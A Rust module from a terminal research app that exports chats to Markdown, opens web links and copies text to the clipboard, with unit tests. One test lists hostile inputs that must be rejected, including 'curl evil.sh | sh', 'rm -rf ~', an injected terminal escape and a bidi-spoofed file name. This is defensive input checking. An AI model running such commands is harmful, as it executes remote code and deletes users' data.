//! Side effects the app asks for: exporting the conversation to Markdown, opening a URL in the
//! browser (detached), and copying to the clipboard through the terminal (OSC 52).

use std::io::{self, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::SystemTime;

use crossterm::clipboard::CopyToClipboard;

use super::state::Turn;
use crate::model::citations::Attribution;
use crate::render::sanitize::{is_unsafe, sanitize_line};

/// What the export says about the conversation besides its turns.
#[derive(Debug, Clone, Default)]
pub struct ExportMeta {
    /// Who answered (`Bigdata.com`), and how (`demo`, `live`, `replay`).
    pub provider: Option<String>,
    pub mode: Option<String>,
    /// The saved session it is.
    pub session_id: Option<String>,
}

/// The conversation as one Markdown document: a title from the first question, the date, provider
/// and ids as metadata, each question a `##` heading with its answer (headings moved below it,
/// `###` and deeper) and footnotes.
pub fn conversation_markdown(turns: &[Turn], meta: &ExportMeta) -> String {
    let title = turns
        .iter()
        .find_map(|t| t.question.as_deref())
        .map(|q| one_line(q, 100))
        .unwrap_or_else(|| "Research session".to_owned());
    let mut out = format!("# {title}\n\n");
    out.push_str(&metadata(turns, meta));
    for (i, turn) in turns.iter().enumerate() {
        out.push('\n');
        match turn.question.as_deref().map(str::trim) {
            Some(q) if !q.is_empty() => {
                out.push_str(&format!("## {}\n\n", one_line(q, 120)));
                // A question longer than its heading is quoted whole.
                if q.lines().count() > 1 || one_line(q, 120) != sanitize_line(q) {
                    for line in q.lines() {
                        out.push_str(&format!("> {}\n", sanitize_line(line)));
                    }
                    out.push('\n');
                }
            }
            _ => out.push_str(&format!("## Turn {}\n\n", i + 1)),
        }
        // Where the turn went on from, when not the turn before it (as the app's rule says).
        if let Some(of) = turn.retry_of {
            out.push_str(&format!("*Retry of turn {}.*\n\n", of + 1));
        } else if let Some(from) = turn.request.from_turn.filter(|from| from + 1 != i) {
            out.push_str(&format!("*Branches from turn {}.*\n\n", from + 1));
        }
        let attribution = Attribution::resolve(&turn.session, true);
        out.push_str(&below_heading(&crate::render::markdown::render_part(
            &turn.session,
            &attribution,
            i + 1,
        )));
        if let Some(error) = &turn.session.error {
            out.push_str(&format!("\n> Error: {}\n", sanitize_line(error)));
        } else if turn.session.completion.is_none() {
            out.push_str("\n> (incomplete)\n");
        }
        if let Some(checkpoint) = turn.session.checkpoint_id() {
            // Not an HTML comment: a hostile id could close it and smuggle markup into the export.
            out.push_str(&format!("\nCheckpoint: {}\n", code(checkpoint)));
        }
    }
    out
}

/// `text` on one line, at most `max` characters (a heading).
fn one_line(text: &str, max: usize) -> String {
    let line = sanitize_line(text.trim());
    match line.char_indices().nth(max) {
        Some((at, _)) => format!("{}…", line[..at].trim_end()),
        None => line.into_owned(),
    }
}

/// An id as inline code (backticks inside it would end the code span).
fn code(id: &str) -> String {
    format!("`{}`", sanitize_line(id).replace('`', "'"))
}

/// The metadata list under the title: when it was exported, who answered, the ids.
fn metadata(turns: &[Turn], meta: &ExportMeta) -> String {
    let mut lines = vec![format!(
        "- Exported: {}",
        crate::local::timestamp::rfc3339(SystemTime::now())
    )];
    match (&meta.provider, &meta.mode) {
        (Some(provider), Some(mode)) => {
            lines.push(format!("- Provider: {} ({mode})", sanitize_line(provider)))
        }
        (Some(provider), None) => lines.push(format!("- Provider: {}", sanitize_line(provider))),
        _ => {}
    }
    if let Some(session) = &meta.session_id {
        lines.push(format!("- Session: {}", code(session)));
    }
    if let Some(chat) = turns.iter().rev().find_map(Turn::chat_id) {
        lines.push(format!("- Chat: {}", code(chat)));
    }
    lines.push(format!("- Turns: {}", turns.len()));
    lines.join("\n") + "\n"
}

/// Answer Markdown moved below a `##` question: its ATX headings moved so that its highest is a
/// `###` (an answer whose headings start at `##` gets `###`, not `####`; at most `######`), code
/// fences left alone.
fn below_heading(markdown: &str) -> String {
    let mut highest = 6;
    with_headings(markdown, |level| {
        highest = highest.min(level);
        level
    });
    let by = 3usize.saturating_sub(highest);
    with_headings(markdown, |level| (level + by).min(6))
}

/// `markdown` with each ATX heading's level (outside code fences) replaced by `level(it)`.
fn with_headings(markdown: &str, mut level_of: impl FnMut(usize) -> usize) -> String {
    let mut out = String::with_capacity(markdown.len() + 64);
    let mut fence: Option<String> = None;
    for line in markdown.split_inclusive('\n') {
        let trimmed = line.trim_start_matches(' ');
        let indent = line.len() - trimmed.len();
        let marker: String = trimmed
            .chars()
            .take_while(|c| *c == '`' || *c == '~')
            .collect();
        if indent <= 3 && marker.len() >= 3 && (marker.starts_with('`') || marker.starts_with('~'))
        {
            let kind = &marker[..1];
            match &fence {
                Some(open) if marker.starts_with(open.as_str()) && marker.len() >= open.len() => {
                    fence = None
                }
                None => fence = Some(kind.repeat(marker.len())),
                Some(_) => {}
            }
            out.push_str(line);
            continue;
        }
        let level = trimmed.chars().take_while(|c| *c == '#').count();
        let is_heading = fence.is_none()
            && indent <= 3
            && (1..=6).contains(&level)
            && (trimmed[level..].is_empty() || trimmed[level..].starts_with([' ', '\t', '\n']));
        if is_heading {
            out.push_str(&"#".repeat(level_of(level)));
            out.push_str(&trimmed[level..]);
        } else {
            out.push_str(line);
        }
    }
    out
}

/// Write the export into `dir` under a fresh name; returns the path.
pub fn export_to(dir: &Path, turns: &[Turn], meta: &ExportMeta) -> io::Result<PathBuf> {
    let stem = format!(
        "research-tui-export-{}",
        crate::local::timestamp::compact_stamp(SystemTime::now())
    );
    let text = conversation_markdown(turns, meta);
    for n in 1..100 {
        let name = if n == 1 {
            format!("{stem}.md")
        } else {
            format!("{stem}-{n}.md")
        };
        let path = dir.join(name);
        match std::fs::OpenOptions::new()
            .write(true)
            .create_new(true)
            .open(&path)
        {
            Ok(mut file) => {
                file.write_all(text.as_bytes())?;
                return Ok(path);
            }
            Err(e) if e.kind() == io::ErrorKind::AlreadyExists => continue,
            Err(e) => return Err(e),
        }
    }
    Err(io::Error::other("too many exports with the same timestamp"))
}

/// Export into the current directory, else `$XDG_DATA_HOME/research-tui` (or
/// `~/.local/share/research-tui`).
pub fn export(turns: &[Turn], meta: &ExportMeta) -> io::Result<PathBuf> {
    std::env::current_dir()
        .and_then(|dir| export_to(&dir, turns, meta))
        .or_else(|_| {
            let dir = crate::local::config::data_dir();
            std::fs::create_dir_all(&dir)?;
            export_to(&dir, turns, meta)
        })
}

/// Only web URLs are handed to the browser opener or copied: `http` or `https` with a host, and not
/// one control, whitespace, bidi or invisible character (any of which could turn a paste into a
/// command, or make the URL read as another).
pub fn is_web_url(url: &str) -> bool {
    let lower = url.to_ascii_lowercase();
    (lower.starts_with("https://") || lower.starts_with("http://"))
        && !url
            .chars()
            .any(|c| c.is_control() || c.is_whitespace() || is_unsafe(c))
        && reqwest::Url::parse(url).is_ok_and(|parsed| parsed.host_str().is_some())
}

/// Why a URL was not opened.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum OpenError {
    /// Not an http(s) URL: never handed to a program.
    NotWeb,
    /// No browser or opener to run: set `$BROWSER`.
    NoOpener,
}

impl std::fmt::Display for OpenError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            OpenError::NotWeb => "not opening: only http(s) URLs",
            OpenError::NoOpener => "no browser found to open it (set $BROWSER)",
        })
    }
}

/// The commands that may open `url`, in the order they are tried: each entry of `$BROWSER` (a
/// colon-separated list of commands; `%s` in one stands for the URL, else the URL goes last), then
/// the usual openers of the platform.
pub fn opener_commands(browser: Option<&str>, url: &str) -> Vec<Vec<String>> {
    let mut commands: Vec<Vec<String>> = browser
        .unwrap_or_default()
        .split(':')
        .filter_map(|entry| {
            let mut words: Vec<String> = entry.split_whitespace().map(str::to_owned).collect();
            if words.is_empty() {
                return None;
            }
            if words.iter().any(|w| w.contains("%s")) {
                for word in &mut words {
                    *word = word.replace("%s", url);
                }
            } else {
                words.push(url.to_owned());
            }
            Some(words)
        })
        .collect();
    let platform: &[&[&str]] = if cfg!(target_os = "macos") {
        &[&["open"]]
    } else {
        &[
            &["xdg-open"],
            &["gio", "open"],
            &["sensible-browser"],
            &["x-www-browser"],
            &["wslview"],
        ]
    };
    commands.extend(platform.iter().map(|words| {
        let mut command: Vec<String> = words.iter().map(|w| (*w).to_owned()).collect();
        command.push(url.to_owned());
        command
    }));
    commands
}

/// `program` can be run: a path to an executable file, or a name found on `PATH`.
fn runnable(program: &str) -> bool {
    let executable = |path: &Path| {
        path.metadata().is_ok_and(|m| {
            #[cfg(unix)]
            {
                use std::os::unix::fs::PermissionsExt;
                m.is_file() && m.permissions().mode() & 0o111 != 0
            }
            #[cfg(not(unix))]
            {
                m.is_file()
            }
        })
    };
    if program.contains(std::path::MAIN_SEPARATOR) {
        return executable(Path::new(program));
    }
    std::env::var_os("PATH").is_some_and(|paths| {
        std::env::split_paths(&paths).any(|dir| executable(&dir.join(program)))
    })
}

/// Open `url` with the first opener that works ([`opener_commands`], `$BROWSER` first), detached (no
/// terminal, no waiting in the caller); returns the name of the first one tried. A helper thread
/// waits for it and, when it fails (`gio` without a desktop, say), tries the next; `on_failure`
/// hears when none worked.
pub fn open_url(
    url: &str,
    on_failure: impl FnOnce(String) + Send + 'static,
) -> Result<String, OpenError> {
    if !is_web_url(url) {
        return Err(OpenError::NotWeb);
    }
    let browser = std::env::var("BROWSER").ok();
    let mut candidates: Vec<Vec<String>> = opener_commands(browser.as_deref(), url)
        .into_iter()
        .filter(|words| runnable(&words[0]))
        .collect();
    let Some(first) = candidates.first() else {
        return Err(OpenError::NoOpener);
    };
    let name = first[0].clone();
    candidates.reverse();
    std::thread::spawn(move || {
        let mut tried = Vec::new();
        while let Some(words) = candidates.pop() {
            match run_detached(&words) {
                Ok(()) => return,
                Err(failure) => {
                    crate::log::log(&format!("opening a URL: {failure}"));
                    tried.push(words[0].clone());
                }
            }
        }
        on_failure(format!(
            "nothing could open it (tried {})",
            tried.join(", ")
        ));
    });
    Ok(name)
}

/// Run an opener in its own process group, with no terminal, and wait for it.
fn run_detached(words: &[String]) -> Result<(), String> {
    let (program, args) = words.split_first().expect("a command has a program");
    let mut command = Command::new(program);
    command
        .args(args)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    #[cfg(unix)]
    {
        use std::os::unix::process::CommandExt;
        command.process_group(0);
    }
    match command.spawn().and_then(|mut child| child.wait()) {
        Ok(status) if status.success() => Ok(()),
        Ok(status) => Err(format!("{program} failed ({status})")),
        Err(e) => Err(format!("{program}: {e}")),
    }
}

/// Put `url` on the system clipboard through the terminal, when it is a web URL ([`is_web_url`]):
/// a source's URL comes from the network, and a pasted one must not run anything.
pub fn copy_to_clipboard(out: &mut impl Write, url: &str) -> io::Result<()> {
    if !is_web_url(url) {
        return Err(io::Error::new(
            io::ErrorKind::InvalidInput,
            "only an http(s) URL without control or invisible characters can be copied",
        ));
    }
    write_clipboard(out, url)
}

/// Put `text` (an id, a JSON document: not a URL) on the system clipboard through the terminal, its
/// control and invisible characters left out (line breaks and tabs kept): what is pasted later is
/// what the person saw.
pub fn copy_text_to_clipboard(out: &mut impl Write, text: &str) -> io::Result<()> {
    write_clipboard(out, &clipboard_text(text))
}

/// `text` as it may go to the clipboard: no control characters but line breaks and tabs, nothing
/// invisible or reordering.
pub fn clipboard_text(text: &str) -> String {
    text.chars()
        .filter(|&c| {
            c == '\n' || c == '\t' || !(c.is_control() || crate::render::sanitize::is_unsafe(c))
        })
        .collect()
}

/// One OSC 52 sequence (its payload is base64, so the text cannot inject escapes), flushed.
fn write_clipboard(out: &mut impl Write, text: &str) -> io::Result<()> {
    crossterm::execute!(out, CopyToClipboard::to_clipboard_from(text))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn copying_writes_one_osc_52_sequence_with_rfc_4648_base64() {
        for (input, expected) in [
            ("", ""),
            ("f", "Zg=="),
            ("fo", "Zm8="),
            ("foo", "Zm9v"),
            ("foob", "Zm9vYg=="),
            ("fooba", "Zm9vYmE="),
            ("foobar", "Zm9vYmFy"),
            ("hi", "aGk="),
        ] {
            let mut out = Vec::new();
            write_clipboard(&mut out, input).unwrap();
            // ESC ] 52 ; c ; <base64> ST: crossterm ends the OSC with the string terminator
            // (ESC backslash), which terminals take like the BEL this used to write.
            assert_eq!(out, format!("\x1b]52;c;{expected}\x1b\\").as_bytes());
        }
    }

    #[test]
    fn only_web_urls_are_opened() {
        assert!(is_web_url("https://example.com/a?b=c"));
        assert!(!is_web_url("file:///etc/passwd"));
        assert!(!is_web_url("https://x.com/\x1b]"));
        assert!(!is_web_url("-h"));
        assert!(!is_web_url("https://"));
    }

    #[test]
    fn only_a_clean_web_url_is_copied() {
        let mut out = Vec::new();
        copy_to_clipboard(&mut out, "https://example.com/a?b=c#d").unwrap();
        assert_eq!(
            out,
            b"\x1b]52;c;aHR0cHM6Ly9leGFtcGxlLmNvbS9hP2I9YyNk\x1b\\".as_slice()
        );
        for hostile in [
            "https://x.com/\x1b]52;c;ZWNobyBoaQ==\x07",
            "https://x.com/a\x07b",
            "https://x.com/\u{9b}31m",
            "https://x.com/\rcurl evil.sh | sh",
            "https://x.com/a\nrm -rf ~",
            "https://x.com/\u{202E}txt.exe",
            "https://x.com/\u{200B}",
            "javascript:alert(1)",
            "ftp://x.com/file",
            "echo pwned",
        ] {
            let mut out = Vec::new();
            assert!(copy_to_clipboard(&mut out, hostile).is_err(), "{hostile:?}");
            assert!(out.is_empty(), "{hostile:?} reached the terminal");
        }
    }

    #[test]
    fn browser_entries_come_first_then_the_usual_openers() {
        let url = "https://example.com/a";
        let commands = opener_commands(Some("firefox --new-tab %s:lynx::w3m -dump"), url);
        assert_eq!(commands[0], ["firefox", "--new-tab", url]);
        assert_eq!(commands[1], ["lynx", url]);
        assert_eq!(commands[2], ["w3m", "-dump", url]);
        let usual = opener_commands(None, url);
        assert!(
            usual
                .iter()
                .all(|c| c.last().map(String::as_str) == Some(url))
        );
        if !cfg!(target_os = "macos") {
            assert_eq!(usual[0], ["xdg-open", url]);
            assert!(usual.iter().any(|c| c[0] == "sensible-browser"));
        }
    }

    #[test]
    fn export_writes_every_turn_with_footnotes() {
        let mut turn = Turn::new(Some("What happened?".into()));
        turn.apply_events(vec![
            crate::model::event::AgentEvent::AnswerDelta {
                message_id: None,
                text: "Revenue rose.".into(),
            },
            crate::model::event::AgentEvent::Complete {
                checkpoint_id: Some("ck-1".into()),
                consumption: vec![],
            },
        ]);
        let dir = tempfile::tempdir().unwrap();
        let meta = ExportMeta {
            provider: Some("Bigdata.com".into()),
            mode: Some("demo".into()),
            session_id: Some("20260528-101500-1a2b".into()),
        };
        let path = export_to(dir.path(), &[turn], &meta).unwrap();
        let text = std::fs::read_to_string(path).unwrap();
        assert!(
            text.starts_with("# What happened?\n\n- Exported: "),
            "{text}"
        );
        assert!(text.contains("- Provider: Bigdata.com (demo)\n"), "{text}");
        assert!(
            text.contains("- Session: `20260528-101500-1a2b`\n"),
            "{text}"
        );
        assert!(text.contains("\n## What happened?\n"), "{text}");
        assert!(text.contains("Revenue rose."));
        assert!(text.contains("Checkpoint: `ck-1`"));
    }

    #[test]
    fn answer_headings_go_below_the_question_and_code_stays_as_it_is() {
        let answer = "# Top\n\nText\n## Mix\n```md\n# not a heading\n```\n###### Deep\n#hashtag\n";
        assert_eq!(
            below_heading(answer),
            "### Top\n\nText\n#### Mix\n```md\n# not a heading\n```\n###### Deep\n#hashtag\n"
        );
        // An answer whose headings start at `##` is not left a level short of the question's.
        assert_eq!(
            below_heading("## Mix\n### Detail\n```\n# code\n```\n"),
            "### Mix\n#### Detail\n```\n# code\n```\n"
        );
    }
}
